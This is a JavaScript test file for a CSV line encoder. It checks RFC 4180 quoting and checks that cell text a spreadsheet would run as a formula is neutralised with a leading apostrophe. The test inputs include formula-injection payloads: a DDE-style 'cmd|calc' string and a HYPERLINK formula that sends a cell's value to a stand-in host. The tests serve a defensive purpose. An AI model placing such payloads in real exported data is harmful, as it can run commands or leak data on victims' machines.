import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvLine } from '@adit/primitives';

test('a line of a table quotes what would end a field, and ends as RFC 4180 says', () => {
  assert.equal(csvLine(['a', 1, 2n, null, '']), 'a,1,2,,\r\n');
  assert.equal(csvLine(['say "hi"', 'a,b', 'a\nb', ' a']), '"say ""hi""","a,b","a\nb"," a"\r\n');
});

test('text that a spreadsheet would run as a formula stays text, and numbers stay numbers', () => {
  for (const text of ['=1+1', '+SUM(A1)', '-2+3', '@SUM(1+1)*cmd|calc', '＝1+1'])
    assert.equal(csvLine([text]), `'${text}\r\n`);
  assert.equal(csvLine(['\t=1', '\r=1']), `'\t=1,"'\r=1"\r\n`);
  assert.equal(csvLine(['=HYPERLINK("http://x/"&A1)']), '"\'=HYPERLINK(""http://x/""&A1)"\r\n');
  assert.equal(csvLine(['-0.5', '+3', -7, -8n]), "-0.5,'+3,-7,-8\r\n");
  // Letters in the middle, and addresses, are as they were.
  assert.equal(csvLine(['a=b', 't1abc', 'u1xyz', '0xAb']), 'a=b,t1abc,u1xyz,0xAb\r\n');
});
